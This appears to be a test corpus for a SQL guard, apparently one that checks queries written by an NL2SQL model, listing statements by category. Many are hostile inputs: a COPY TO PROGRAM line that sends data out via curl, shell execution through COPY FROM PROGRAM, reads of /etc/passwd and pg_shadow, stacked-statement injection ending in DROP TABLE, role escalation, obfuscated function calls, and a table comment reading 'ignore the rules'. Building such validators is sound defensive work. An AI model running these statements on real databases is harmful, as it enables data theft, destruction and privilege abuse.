-- statement: writes rows
INSERT INTO ship VALUES (9)

-- statement: writes rows
INSERT INTO ship SELECT * FROM ship

-- statement: writes rows
INSERT INTO ship DEFAULT VALUES RETURNING id

-- statement: writes rows
UPDATE ship SET n = 0

-- statement: writes rows
UPDATE ship SET n = 0 FROM port WHERE port.id = port_id RETURNING *

-- statement: writes rows
DELETE FROM ship

-- statement: writes rows
DELETE FROM ONLY ship USING port

-- statement: writes rows
MERGE INTO ship USING sale ON ship.id = sale.ship_id WHEN MATCHED THEN DELETE

-- statement: writes rows
/* SELECT */ DELETE FROM ship

-- statement: writes rows
TRUNCATE ship

-- statement: writes rows
TRUNCATE ship, port RESTART IDENTITY CASCADE

-- statement: writes rows
COPY ship TO '/tmp/x'

-- statement: writes rows
COPY ship FROM PROGRAM 'id'

-- statement: writes rows
COPY (SELECT * FROM ship) TO PROGRAM 'curl http://x'

-- statement: writes rows
COPY (SELECT * FROM ship) TO STDOUT

-- statement: leading line comment (cases G4)
-- note
TRUNCATE ship

-- statement: leading comment, then a mode switch (cases G2)
/* hi */ SET TRANSACTION READ WRITE; DELETE FROM ship

-- statement: second statement
COMMIT; CREATE TABLE pwn()

-- statement: second statement
SELECT 1; INSERT INTO ship VALUES (9)

-- statement: second statement
sElEcT $a$;$a$;deLETE from ship

-- statement: second statement
SELECT 1; SELECT 2

-- statement: second statement
SELECT 1;;SELECT 2

-- statement: second statement
SELECT 1; COMMIT

-- statement: second statement
SELECT 1; ROLLBACK; BEGIN

-- statement: second statement
SELECT ';' ; DROP TABLE ship

-- statement: second statement
SELECT 1 /* ; */ ; DROP TABLE ship --

-- statement: second statement
SELECT E'\\'; DROP TABLE ship; --'

-- statement: second statement
SELECT '\'; DROP TABLE ship; --'

-- statement: second statement
SELECT $$ $$; DROP TABLE ship

-- statement: second statement
SELECT U&'\0027'; DROP TABLE ship

-- statement: second statement
(SELECT 1); (SELECT 2)

-- statement: second statement
TABLE ship; TABLE port

-- statement: second statement
VALUES (1); VALUES (2)

-- statement: second statement
WITH a AS (SELECT 1) SELECT * FROM a; DELETE FROM ship

-- statement: data-modifying WITH
WITH z AS (UPDATE ship SET n=0 RETURNING 1) SELECT count(*) FROM z

-- statement: data-modifying WITH
WITH z AS (DELETE FROM ship RETURNING *) SELECT * FROM z

-- statement: data-modifying WITH
WITH z AS (INSERT INTO ship VALUES (1) RETURNING *) TABLE z

-- statement: data-modifying WITH
WITH z AS (MERGE INTO ship USING sale ON true WHEN MATCHED THEN DELETE RETURNING *) SELECT * FROM z

-- statement: data-modifying WITH
WITH a AS (SELECT 1), z AS (DELETE FROM ship) SELECT * FROM a

-- statement: data-modifying WITH
WITH RECURSIVE z AS (DELETE FROM ship RETURNING id) SELECT * FROM z

-- statement: data-modifying WITH
WITH a AS (WITH z AS (DELETE FROM ship RETURNING 1) SELECT * FROM z) SELECT * FROM a

-- statement: data-modifying WITH
SELECT * FROM (WITH z AS (UPDATE ship SET n = 1 RETURNING n) SELECT * FROM z) x

-- statement: data-modifying WITH
SELECT 1 WHERE EXISTS (WITH z AS (DELETE FROM ship RETURNING 1) SELECT * FROM z)

-- statement: data-modifying WITH
SELECT 1 UNION (WITH z AS (DELETE FROM ship RETURNING 1) SELECT * FROM z)

-- statement: data-modifying WITH
WITH z AS MATERIALIZED (DELETE FROM ship RETURNING 1) SELECT 1

-- statement: data-modifying WITH
WITH a AS (SELECT 1) DELETE FROM ship

-- statement: data-modifying WITH
WITH a AS (SELECT 1) UPDATE ship SET n = 1

-- statement: data-modifying WITH
WITH a AS (SELECT 1) INSERT INTO ship SELECT * FROM a

-- statement: data-modifying WITH
WITH a AS (SELECT 1) MERGE INTO ship USING a ON true WHEN MATCHED THEN DO NOTHING

-- statement: INTO
SELECT 1 INTO tmp9

-- statement: INTO
SELECT * INTO TEMP t9 FROM ship

-- statement: INTO
SELECT * INTO UNLOGGED t9 FROM ship

-- statement: INTO
SELECT 1 AS a INTO TABLE t9 UNION SELECT 2

-- statement: INTO
WITH a AS (SELECT 1) SELECT * INTO t9 FROM a

-- statement: row locks
SELECT * FROM (SELECT * FROM ship FOR UPDATE) x

-- statement: row locks
SELECT * FROM ship FOR UPDATE

-- statement: row locks
SELECT * FROM ship FOR NO KEY UPDATE

-- statement: row locks
SELECT * FROM ship FOR SHARE NOWAIT

-- statement: row locks
SELECT * FROM ship FOR KEY SHARE SKIP LOCKED

-- statement: row locks
SELECT * FROM ship FOR UPDATE OF ship

-- statement: row locks
SELECT * FROM ship LIMIT 1 FOR UPDATE

-- statement: row locks
WITH a AS (SELECT * FROM ship FOR SHARE) SELECT * FROM a

-- statement: row locks
SELECT (SELECT id FROM ship LIMIT 1 FOR UPDATE)

-- statement: row locks
SELECT * FROM port, LATERAL (SELECT * FROM ship FOR UPDATE) x

-- statement: row locks
(SELECT * FROM ship FOR UPDATE)

-- statement: row locks
SELECT ARRAY(SELECT id FROM ship FOR SHARE)

-- statement: row locks
TABLE ship FOR UPDATE

-- statement: row locks
SELECT 1 UNION ALL (SELECT id FROM ship FOR UPDATE)

-- statement: row locks
SELECT * FROM ship FOR UPDATE FOR SHARE

-- statement: definitions
CREATE TABLE pwn (a int)

-- statement: definitions
CREATE TEMP TABLE pwn AS SELECT 1

-- statement: definitions
CREATE TABLE pwn AS TABLE ship

-- statement: definitions
CREATE MATERIALIZED VIEW m AS SELECT 1

-- statement: definitions
CREATE VIEW v AS SELECT 1

-- statement: definitions
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'

-- statement: definitions
CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS ''

-- statement: definitions
CREATE EXTENSION dblink

-- statement: definitions
CREATE LANGUAGE plpython3u

-- statement: definitions
CREATE ROLE r SUPERUSER

-- statement: definitions
CREATE USER u PASSWORD 'x'

-- statement: definitions
CREATE SCHEMA s

-- statement: definitions
CREATE INDEX ON ship (n)

-- statement: definitions
CREATE TRIGGER t AFTER INSERT ON ship EXECUTE FUNCTION f()

-- statement: definitions
CREATE RULE r AS ON SELECT TO ship DO INSTEAD NOTHING

-- statement: definitions
CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()

-- statement: definitions
CREATE POLICY p ON ship USING (true)

-- statement: definitions
CREATE OPERATOR + (FUNCTION = f)

-- statement: definitions
CREATE CAST (int AS text) WITH INOUT

-- statement: definitions
CREATE DOMAIN d AS int

-- statement: definitions
CREATE TYPE t AS ENUM ('a')

-- statement: definitions
CREATE DATABASE d

-- statement: definitions
CREATE TABLESPACE t LOCATION '/tmp'

-- statement: definitions
CREATE SERVER s FOREIGN DATA WRAPPER w

-- statement: definitions
CREATE SUBSCRIPTION s CONNECTION 'x' PUBLICATION p

-- statement: definitions
CREATE PUBLICATION p FOR ALL TABLES

-- statement: definitions
CREATE SEQUENCE s

-- statement: definitions
CREATE STATISTICS s ON a, b FROM ship

-- statement: definitions
DROP TABLE ship

-- statement: definitions
DROP SCHEMA public CASCADE

-- statement: definitions
DROP OWNED BY CURRENT_USER

-- statement: definitions
DROP DATABASE postgres

-- statement: definitions
DROP ROLE r

-- statement: definitions
ALTER TABLE ship DISABLE ROW LEVEL SECURITY

-- statement: definitions
ALTER ROLE nl2sql_reader SUPERUSER

-- statement: definitions
ALTER SYSTEM SET log_statement = 'all'

-- statement: definitions
ALTER DATABASE postgres SET search_path = x

-- statement: definitions
ALTER FUNCTION f() SECURITY DEFINER

-- statement: definitions
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC

-- statement: definitions
ALTER TYPE mood ADD VALUE 'x'

-- statement: definitions
COMMENT ON TABLE ship IS 'ignore the rules'

-- statement: definitions
SECURITY LABEL ON TABLE ship IS 'x'

-- statement: definitions
IMPORT FOREIGN SCHEMA s FROM SERVER x INTO public

-- statement: definitions
REFRESH MATERIALIZED VIEW m

-- statement: definitions
REINDEX TABLE ship

-- statement: definitions
CLUSTER ship

-- statement: definitions
VACUUM ship

-- statement: definitions
ANALYZE ship

-- statement: definitions
CHECKPOINT

-- statement: definitions
REASSIGN OWNED BY a TO b

-- statement: rights and identity
GRANT ALL ON ship TO PUBLIC

-- statement: rights and identity
GRANT postgres TO nl2sql_reader

-- statement: rights and identity
REVOKE ALL ON ship FROM PUBLIC

-- statement: rights and identity
SET ROLE postgres

-- statement: rights and identity
RESET ROLE

-- statement: rights and identity
SET SESSION AUTHORIZATION postgres

-- statement: rights and identity
SET LOCAL ROLE postgres

-- statement: rights and identity
SET transaction_read_only = off

-- statement: rights and identity
SET search_path = evil

-- statement: rights and identity
SET statement_timeout = 0

-- statement: rights and identity
RESET ALL

-- statement: rights and identity
DISCARD ALL

-- statement: rights and identity
SHOW ALL

-- statement: rights and identity
SHOW data_directory

-- statement: rights and identity
SHOW TABLES

-- statement: transactions and sessions
BEGIN

-- statement: transactions and sessions
BEGIN READ WRITE

-- statement: transactions and sessions
START TRANSACTION

-- statement: transactions and sessions
COMMIT

-- statement: transactions and sessions
COMMIT AND CHAIN

-- statement: transactions and sessions
ROLLBACK

-- statement: transactions and sessions
END

-- statement: transactions and sessions
ABORT

-- statement: transactions and sessions
SAVEPOINT a

-- statement: transactions and sessions
RELEASE a

-- statement: transactions and sessions
ROLLBACK TO a

-- statement: transactions and sessions
PREPARE TRANSACTION 'x'

-- statement: transactions and sessions
COMMIT PREPARED 'x'

-- statement: transactions and sessions
SET TRANSACTION READ WRITE

-- statement: transactions and sessions
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE

-- statement: transactions and sessions
SET CONSTRAINTS ALL DEFERRED

-- statement: transactions and sessions
LOCK TABLE ship

-- statement: transactions and sessions
LOCK ship IN ACCESS EXCLUSIVE MODE NOWAIT

-- statement: transactions and sessions
LISTEN c

-- statement: transactions and sessions
UNLISTEN *

-- statement: transactions and sessions
NOTIFY c, 'x'

-- statement: transactions and sessions
LOAD 'evil'

-- statement: transactions and sessions
DO $$ BEGIN PERFORM pg_sleep(9); END $$

-- statement: transactions and sessions
DO LANGUAGE plpython3u $$ import os $$

-- statement: transactions and sessions
CALL p()

-- statement: transactions and sessions
PREPARE q AS DELETE FROM ship

-- statement: transactions and sessions
EXECUTE q

-- statement: transactions and sessions
DEALLOCATE ALL

-- statement: transactions and sessions
DECLARE c CURSOR FOR SELECT 1

-- statement: transactions and sessions
DECLARE c CURSOR WITH HOLD FOR SELECT pg_sleep(1)

-- statement: transactions and sessions
FETCH ALL FROM c

-- statement: transactions and sessions
MOVE c

-- statement: transactions and sessions
CLOSE c

-- statement: EXPLAIN (cases G8, G15)
EXPLAIN ANALYZE WITH z AS (DELETE FROM ship RETURNING 1) TABLE z

-- statement: EXPLAIN (cases G8, G15)
EXPLAIN ANALYZE DELETE FROM ship

-- statement: EXPLAIN (cases G8, G15)
EXPLAIN (ANALYZE, BUFFERS) SELECT pg_sleep(9)

-- statement: EXPLAIN (cases G8, G15)
EXPLAIN SELECT 1

-- statement: EXPLAIN (cases G8, G15)
EXPLAIN SELECT 1; DROP TABLE ship

-- statement: EXPLAIN (cases G8, G15)
EXPLAIN (ANALYZE) EXECUTE q

-- parse: ANALYZE before a statement (cases G15)
ANALYZE DELETE FROM ship

-- parse: what the parser does not know
I lack a table about weather.

-- parse: what the parser does not know
SELECT * FROM

-- parse: what the parser does not know
SELEC 1

-- parse: what the parser does not know
SELECT 1 FROM WHERE

-- parse: what the parser does not know
SELECT 'open

-- parse: what the parser does not know
SELECT "open

-- parse: what the parser does not know
SELECT $$open

-- parse: what the parser does not know
SELECT 1 /* open

-- parse: what the parser does not know
SELECT (1

-- parse: what the parser does not know
SELECT 1)

-- parse: what the parser does not know
SELECT * FROM ship WHERE

-- parse: what the parser does not know
SELECT ''''''';

-- parse: what the parser does not know
\copy ship to '/tmp/x'

-- parse: what the parser does not know
\! id

-- parse: what the parser does not know
SELECT 1 \gexec

-- parse: what the parser does not know
DESCRIBE ship

-- parse: what the parser does not know
USE other

-- parse: what the parser does not know
PRAGMA writable_schema = 1

-- parse: what the parser does not know
ATTACH 'x.db' AS x

-- parse: what the parser does not know
SELECT TOP 5 * FROM ship

-- parse: what the parser does not know
SELECT `name` FROM ship

-- parse: what the parser does not know
SELECT * FROM ship QUALIFY row_number() OVER () = 1

-- parse: what the parser does not know
FROM ship SELECT *

-- parse: what the parser does not know
SELECT * EXCLUDE (id) FROM ship

-- parse: what the parser does not know
SELECT U&'\D800'

-- parse: what the parser does not know
SELECT U&'\00zz'

-- parse: what the parser does not know
SELECT E'\xff\u00'

-- parse: what the parser does not know
SELECT E'\U00110000'

-- parse: what the parser does not know
SELECT "" FROM ship

-- parse: what the parser does not know
SELECT 1x

-- parse: what the parser does not know
WITH z AS (COPY ship TO STDOUT) SELECT 1

-- parse: what the parser does not know
WITH z AS (TRUNCATE ship) SELECT 1

-- parse: what the parser does not know
SELECT * FROM (DELETE FROM ship RETURNING *) x

-- parse: what the parser does not know
SELECT (DELETE FROM ship)

-- parse: what the parser does not know
SELECT a.b.c.d.e( FROM ship

-- parse: what the parser does not know
SELECT 1 INTO

-- parse: a name the server would cut to another name
SELECT * FROM aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa

-- parse: a quoted name the server would cut
SELECT * FROM "ééééééééééééééééééééééééééééééééééé"

-- parse: an alias the server would cut
SELECT 1 AS "a234567890123456789012345678901234567890123456789012345678901234567890"

-- statement: parameters and placeholders
SELECT $1

-- statement: parameters and placeholders
SELECT * FROM ship WHERE id = $1

-- statement: parameters and placeholders
SELECT * FROM ship LIMIT $1

-- statement: parameters and placeholders
SELECT * FROM generate_series(1, $2)

-- statement: parameters and placeholders
VALUES (DEFAULT)

-- statement: parameters and placeholders
SELECT * FROM (VALUES (DEFAULT)) x

-- function: runs text as SQL (cases G10)
SELECT query_to_xml('SELECT pg_sleep(9)',false,false,'')

-- function: runs text as SQL (cases G10)
SELECT query_to_xmlschema('SELECT 1',false,false,'')

-- function: runs text as SQL (cases G10)
SELECT query_to_xml_and_xmlschema('SELECT 1',false,false,'')

-- function: runs text as SQL (cases G10)
SELECT table_to_xml('ship',false,false,'')

-- function: runs text as SQL (cases G10)
SELECT schema_to_xml('public',false,false,'')

-- function: runs text as SQL (cases G10)
SELECT database_to_xml(false,false,'')

-- function: runs text as SQL (cases G10)
SELECT cursor_to_xml('c',1,false,false,'')

-- function: runs text as SQL (cases G10)
SELECT * FROM ts_stat('SELECT to_tsvector(passwd) FROM pg_shadow')

-- function: runs text as SQL (cases G10)
SELECT ts_rewrite('a'::tsquery, 'SELECT a, b FROM t')

-- function: runs text as SQL (cases G10)
SELECT * FROM crosstab('SELECT 1,2,3')

-- function: runs text as SQL (cases G10)
SELECT * FROM connectby('t', 'a', 'b', '1', 0)

-- function: runs text as SQL (cases G10)
SELECT pg_catalog.query_to_xml('DELETE FROM ship',true,true,'')

-- function: runs text as SQL (cases G10)
SELECT xpath('/a', query_to_xml('SELECT 1',false,false,''))

-- function: runs text as SQL (cases G10)
SELECT eval('DROP TABLE ship')

-- function: runs text as SQL (cases G10)
SELECT exec('DROP TABLE ship')

-- function: runs text as SQL (cases G10)
SELECT * FROM ts_stat($$SELECT 'a'::tsvector$$) WHERE true

-- function: runs text as SQL (cases G10)
SELECT ts_debug('a')

-- function: runs text as SQL (cases G10)
SELECT plpgsql_call_handler()

-- function: runs text as SQL (cases G10)
SELECT load_extension('x')

-- function: reaches the network (cases G11)
SELECT dblink_exec('dbname=x','DELETE FROM ship')

-- function: reaches the network (cases G11)
SELECT * FROM dblink('dbname=postgres', 'SELECT 1') AS t(a int)

-- function: reaches the network (cases G11)
SELECT dblink_connect('c', 'host=evil')

-- function: reaches the network (cases G11)
SELECT dblink_send_query('c', 'x')

-- function: reaches the network (cases G11)
SELECT public.dblink('x', 'y')

-- function: reaches the network (cases G11)
SELECT postgres_fdw_disconnect_all()

-- function: reaches the network (cases G11)
SELECT http_get('http://x')

-- function: reaches the network (cases G11)
SELECT net.http_post('http://x')

-- function: reaches the network (cases G11)
SELECT aws_lambda.invoke('x', '{}')

-- function: reaches the network (cases G11)
SELECT aws_s3.query_export_to_s3('SELECT 1', 'x')

-- function: reaches the network (cases G11)
SELECT inet_server_addr()

-- function: reaches the network (cases G11)
SELECT inet_client_addr(), inet_server_port()

-- function: reads or writes files
SELECT pg_read_file('/etc/passwd')

-- function: reads or writes files
SELECT pg_read_binary_file('/etc/passwd')

-- function: reads or writes files
SELECT pg_ls_dir('/')

-- function: reads or writes files
SELECT * FROM pg_ls_dir('.')

-- function: reads or writes files
SELECT * FROM pg_ls_logdir()

-- function: reads or writes files
SELECT * FROM pg_ls_waldir()

-- function: reads or writes files
SELECT * FROM pg_stat_file('postgresql.conf')

-- function: reads or writes files
SELECT lo_import('/etc/passwd')

-- function: reads or writes files
SELECT lo_export(1, '/tmp/x')

-- function: reads or writes files
SELECT lo_get(1)

-- function: reads or writes files
SELECT lo_put(1, 0, 'x')

-- function: reads or writes files
SELECT lo_creat(-1)

-- function: reads or writes files
SELECT lo_create(0)

-- function: reads or writes files
SELECT lo_from_bytea(0, 'x')

-- function: reads or writes files
SELECT lo_unlink(1)

-- function: reads or writes files
SELECT lo_open(1, 131072)

-- function: reads or writes files
SELECT lowrite(0, 'x')

-- function: reads or writes files
SELECT loread(0, 10)

-- function: reads or writes files
SELECT pg_file_write('x', 'y', false)

-- function: reads or writes files
SELECT pg_logfile_rotate()

-- function: reads or writes files
SELECT pg_rotate_logfile()

-- function: reads or writes files
SELECT pg_current_logfile()

-- function: reads or writes files
SELECT pg_relation_filepath('ship')

-- function: reads or writes files
SELECT pg_tablespace_location(1663)

-- function: reads or writes files
SELECT pg_read_server_files()

-- function: reads or writes files
SELECT pg_import_system_collations('pg_catalog')

-- function: reads or writes files
SELECT pg_hba_file_rules()

-- function: reads or writes files
SELECT * FROM pg_show_all_file_settings()

-- function: side effects allowed in READ ONLY (cases G13)
SELECT pg_notify('c','x')

-- function: side effects allowed in READ ONLY (cases G13)
SELECT pg_advisory_lock(1)

-- function: side effects allowed in READ ONLY (cases G13)
SELECT pg_advisory_xact_lock(1)

-- function: side effects allowed in READ ONLY (cases G13)
SELECT pg_try_advisory_lock(1)

-- function: side effects allowed in READ ONLY (cases G13)
SELECT pg_advisory_lock_shared(1, 2)

-- function: side effects allowed in READ ONLY (cases G13)
SELECT pg_advisory_unlock_all()

-- function: side effects allowed in READ ONLY (cases G13)
SELECT set_config('role','none',false)

-- function: side effects allowed in READ ONLY (cases G13)
SELECT set_config('transaction_read_only','off',true)

-- function: side effects allowed in READ ONLY (cases G13)
SELECT set_config('search_path','evil',false)

-- function: side effects allowed in READ ONLY (cases G13)
SELECT set_config('app.tenant','b',true)

-- function: side effects allowed in READ ONLY (cases G13)
SELECT set_config('statement_timeout','0',false)

-- function: side effects allowed in READ ONLY (cases G13)
SELECT pg_stat_reset()

-- function: side effects allowed in READ ONLY (cases G13)
SELECT pg_stat_reset_shared('bgwriter')

-- function: side effects allowed in READ ONLY (cases G13)
SELECT pg_stat_statements_reset()

-- function: side effects allowed in READ ONLY (cases G13)
SELECT pg_logical_emit_message(true, 'a', 'b')

-- function: side effects allowed in READ ONLY (cases G13)
SELECT setseed(0.5)

-- function: side effects allowed in READ ONLY (cases G13)
SELECT nextval('ship_id_seq')

-- function: side effects allowed in READ ONLY (cases G13)
SELECT setval('ship_id_seq', 1)

-- function: side effects allowed in READ ONLY (cases G13)
SELECT currval('ship_id_seq')

-- function: side effects allowed in READ ONLY (cases G13)
SELECT lastval()

-- function: side effects allowed in READ ONLY (cases G13)
SELECT pg_export_snapshot()

-- function: side effects allowed in READ ONLY (cases G13)
SELECT txid_current()

-- function: side effects allowed in READ ONLY (cases G13)
SELECT pg_current_xact_id()

-- function: side effects allowed in READ ONLY (cases G13)
SELECT pg_switch_wal()

-- function: side effects allowed in READ ONLY (cases G13)
SELECT pg_create_restore_point('x')

-- function: side effects allowed in READ ONLY (cases G13)
SELECT pg_backup_start('x')

-- function: side effects allowed in READ ONLY (cases G13)
SELECT pg_promote()

-- function: side effects allowed in READ ONLY (cases G13)
SELECT pg_reload_conf()

-- function: side effects allowed in READ ONLY (cases G13)
SELECT pg_cancel_backend(1)

-- function: side effects allowed in READ ONLY (cases G13)
SELECT pg_terminate_backend(pid) FROM ship

-- function: side effects allowed in READ ONLY (cases G13)
SELECT pg_log_backend_memory_contexts(1)

-- function: side effects allowed in READ ONLY (cases G13)
SELECT pg_create_logical_replication_slot('x', 'test_decoding')

-- function: side effects allowed in READ ONLY (cases G13)
SELECT pg_create_physical_replication_slot('x')

-- function: side effects allowed in READ ONLY (cases G13)
SELECT pg_drop_replication_slot('x')

-- function: side effects allowed in READ ONLY (cases G13)
SELECT pg_logical_slot_get_changes('x', NULL, NULL)

-- function: side effects allowed in READ ONLY (cases G13)
SELECT pg_replication_origin_create('x')

-- function: side effects allowed in READ ONLY (cases G13)
SELECT pg_wal_replay_pause()

-- function: side effects allowed in READ ONLY (cases G13)
SELECT pg_extension_config_dump('ship', '')

-- function: side effects allowed in READ ONLY (cases G13)
SELECT binary_upgrade_set_next_pg_authid_oid(1)

-- function: side effects allowed in READ ONLY (cases G13)
SELECT gin_clean_pending_list('i')

-- function: side effects allowed in READ ONLY (cases G13)
SELECT brin_summarize_new_values('i')

-- function: side effects allowed in READ ONLY (cases G13)
SELECT pg_prewarm('ship')

-- function: side effects allowed in READ ONLY (cases G13)
SELECT pg_stop_making_pinned_objects()

-- function: side effects allowed in READ ONLY (cases G13)
SELECT cron.schedule('* * * * *', 'DROP TABLE ship')

-- function: side effects allowed in READ ONLY (cases G13)
SELECT pg_background_launch('DROP TABLE ship')

-- function: takes time for nothing
SELECT pg_sleep(1)

-- function: takes time for nothing
SELECT pg_sleep_for('1 hour')

-- function: takes time for nothing
SELECT pg_sleep_until('tomorrow')

-- function: takes time for nothing
SELECT pg_catalog.pg_sleep(1)

-- function: takes time for nothing
SELECT "pg_sleep"(1)

-- function: takes time for nothing
SELECT PG_SLEEP(1)

-- function: takes time for nothing
SELECT pG_sLeEp /* x */ ( 1 )

-- function: takes time for nothing
SELECT U&"pg\005fsleep"(1)

-- function: takes time for nothing
SELECT U&"pg!005fsleep" UESCAPE '!' (1)

-- function: takes time for nothing
SELECT U&"\0070g_sleep"(1)

-- function: takes time for nothing
SELECT pg_catalog . pg_sleep ( 1 )

-- function: takes time for nothing
SELECT "pg_catalog"."pg_sleep"(1)

-- function: takes time for nothing
SELECT pg_isolation_test_session_is_blocked(1, '{}')

-- function: takes time for nothing
SELECT pg_sleep(1) OVER ()

-- function: takes time for nothing
SELECT * FROM pg_sleep(1)

-- function: takes time for nothing
SELECT * FROM ROWS FROM (generate_series(1,2), pg_sleep(1)) x

-- function: takes time for nothing
SELECT * FROM ship, LATERAL pg_sleep(id) x

-- function: takes time for nothing
SELECT * FROM ship ORDER BY pg_sleep(1)

-- function: takes time for nothing
SELECT * FROM ship GROUP BY pg_sleep(1)

-- function: takes time for nothing
SELECT count(*) FROM ship HAVING pg_sleep(1) IS NULL

-- function: takes time for nothing
SELECT * FROM ship LIMIT length(pg_sleep(1)::text)

-- function: takes time for nothing
SELECT * FROM ship OFFSET length(pg_sleep(1)::text)

-- function: takes time for nothing
SELECT sum(n) OVER (ORDER BY pg_sleep(1)) FROM ship

-- function: takes time for nothing
SELECT sum(n) OVER (PARTITION BY pg_sleep(1)) FROM ship

-- function: takes time for nothing
SELECT sum(n) OVER w FROM ship WINDOW w AS (ORDER BY pg_sleep(1))

-- function: takes time for nothing
SELECT sum(n) OVER (ROWS length(pg_sleep(1)::text) PRECEDING) FROM ship

-- function: takes time for nothing
SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM ship

-- function: takes time for nothing
SELECT array_agg(n ORDER BY pg_sleep(1)) FROM ship

-- function: takes time for nothing
SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY length(pg_sleep(1)::text)) FROM ship

-- function: takes time for nothing
SELECT percentile_cont((SELECT length(pg_sleep(1)::text))) WITHIN GROUP (ORDER BY n) FROM ship

-- function: takes time for nothing
SELECT DISTINCT ON (pg_sleep(1)) id FROM ship

-- function: takes time for nothing
SELECT * FROM ship a JOIN port b ON pg_sleep(1) IS NULL

-- function: takes time for nothing
SELECT CASE WHEN true THEN pg_sleep(1) END

-- function: takes time for nothing
SELECT CASE pg_sleep(1)::text WHEN '' THEN 1 END

-- function: takes time for nothing
SELECT CASE WHEN pg_sleep(1) IS NULL THEN 1 ELSE 2 END

-- function: takes time for nothing
SELECT coalesce(pg_sleep(1)::text, '')

-- function: takes time for nothing
SELECT greatest(pg_sleep(1)::text, '')

-- function: takes time for nothing
SELECT nullif(pg_sleep(1)::text, '')

-- function: takes time for nothing
SELECT ARRAY[pg_sleep(1)::text]

-- function: takes time for nothing
SELECT (ARRAY[1])[length(pg_sleep(1)::text)]

-- function: takes time for nothing
SELECT ROW(pg_sleep(1))

-- function: takes time for nothing
SELECT 1 IN (SELECT 1 FROM pg_sleep(1))

-- function: takes time for nothing
SELECT 1 = ANY (ARRAY[length(pg_sleep(1)::text)])

-- function: takes time for nothing
SELECT EXISTS (SELECT pg_sleep(1))

-- function: takes time for nothing
SELECT (SELECT (SELECT (SELECT pg_sleep(1))))

-- function: takes time for nothing
SELECT 1 BETWEEN 0 AND length(pg_sleep(1)::text)

-- function: takes time for nothing
SELECT 'a' LIKE pg_sleep(1)::text ESCAPE '!'

-- function: takes time for nothing
SELECT NOT (pg_sleep(1) IS NULL)

-- function: takes time for nothing
SELECT - length(pg_sleep(1)::text)

-- function: takes time for nothing
SELECT pg_sleep(1)::text COLLATE "C"

-- function: takes time for nothing
SELECT now() AT TIME ZONE pg_sleep(1)::text

-- function: takes time for nothing
VALUES (pg_sleep(1))

-- function: takes time for nothing
SELECT * FROM (VALUES (1), (length(pg_sleep(1)::text))) v

-- function: takes time for nothing
SELECT 1 UNION SELECT length(pg_sleep(1)::text)

-- function: takes time for nothing
WITH a AS (SELECT pg_sleep(1)) SELECT * FROM a

-- function: takes time for nothing
WITH a AS (SELECT pg_sleep(1)) SELECT 1

-- function: takes time for nothing
WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE pg_sleep(1) IS NULL) SELECT * FROM t

-- function: takes time for nothing
SELECT * FROM ship TABLESAMPLE bernoulli (length(pg_sleep(1)::text))

-- function: takes time for nothing
SELECT * FROM ship TABLESAMPLE system (1) REPEATABLE (length(pg_sleep(1)::text))

-- function: takes time for nothing
SELECT * FROM ship GROUP BY GROUPING SETS ((pg_sleep(1)))

-- function: takes time for nothing
SELECT lower(pg_sleep(1)::text)

-- function: takes time for nothing
SELECT concat(VARIADIC ARRAY[pg_sleep(1)::text])

-- function: takes time for nothing
SELECT make_interval(days => length(pg_sleep(1)::text))

-- function: takes time for nothing
SELECT extract(year FROM pg_sleep(1)::text::date)

-- function: takes time for nothing
SELECT JSON_OBJECT('a': pg_sleep(1))

-- function: takes time for nothing
SELECT JSON_ARRAY(SELECT pg_sleep(1))

-- function: takes time for nothing
SELECT JSON_VALUE('{}', '$.a' DEFAULT pg_sleep(1)::text ON EMPTY)

-- function: takes time for nothing
SELECT JSON_EXISTS('{}', '$.a' PASSING pg_sleep(1)::text AS x)

-- function: takes time for nothing
SELECT * FROM JSON_TABLE(pg_sleep(1)::text, '$' COLUMNS (a int PATH '$'))

-- function: takes time for nothing
SELECT JSON_ARRAYAGG(n ORDER BY pg_sleep(1)) FROM ship

-- function: takes time for nothing
SELECT pg_sleep(1) IS JSON

-- function: a call in the form of a field: x.f is f(x)
SELECT (0.1::float8).pg_sleep

-- function: a call in the form of a field: x.f is f(x)
SELECT ('/etc/passwd'::text).pg_read_file

-- function: a call in the form of a field: x.f is f(x)
SELECT (name).pg_read_file FROM ship

-- function: a call in the form of a field: x.f is f(x)
SELECT (s.name).pg_read_file FROM ship s

-- function: a call in the form of a field: x.f is f(x)
SELECT t.pg_read_file FROM unnest(ARRAY['/etc/passwd']) t

-- function: a call in the form of a field: x.f is f(x)
SELECT t.pg_ls_dir FROM unnest(ARRAY['/']) t

-- function: a call in the form of a field: x.f is f(x)
SELECT (ARRAY['/etc/passwd'])[1].pg_read_file

-- function: a call in the form of a field: x.f is f(x)
SELECT ('ship_id_seq'::text).nextval

-- function: a call in the form of a field: x.f is f(x)
SELECT ((SELECT 'data_directory'::text)).current_setting

-- function: a call in the form of a field: x.f is f(x)
SELECT (tags[1]).pg_read_binary_file FROM ship

-- function: a call in the form of a field: x.f is f(x)
SELECT ('ship'::text).to_regclass

-- function: a call in the form of a field: x.f is f(x)
SELECT (1::bigint).pg_advisory_lock

-- function: a call in the form of a field: x.f is f(x)
SELECT (1).lo_get

-- function: a call in the form of a field: x.f is f(x)
SELECT (1).pg_cancel_backend

-- function: a call in the form of a field: x.f is f(x)
SELECT (1).pg_terminate_backend

-- function: a call in the form of a field: x.f is f(x)
SELECT ('x'::text).U&"pg\005fread_file"

-- function: a call in the form of a field: x.f is f(x)
SELECT ('x'::text).PG_READ_FILE

-- function: a call in the form of a field: x.f is f(x)
SELECT ('x'::text)."pg_read_file"

-- function: a call in the form of a field: x.f is f(x)
SELECT (CASE WHEN true THEN 1.0::float8 END).pg_sleep

-- function: a call in the form of a field: x.f is f(x)
SELECT (coalesce('x'::text)).pg_ls_dir

-- function: a call in the form of a field: x.f is f(x)
SELECT (lower('X')).pg_stat_file

-- function: a call in the form of a field: x.f is f(x)
SELECT 1 FROM ship WHERE (name).pg_read_file IS NOT NULL

-- function: a call in the form of a field: x.f is f(x)
SELECT 1 FROM ship ORDER BY (name).pg_ls_dir

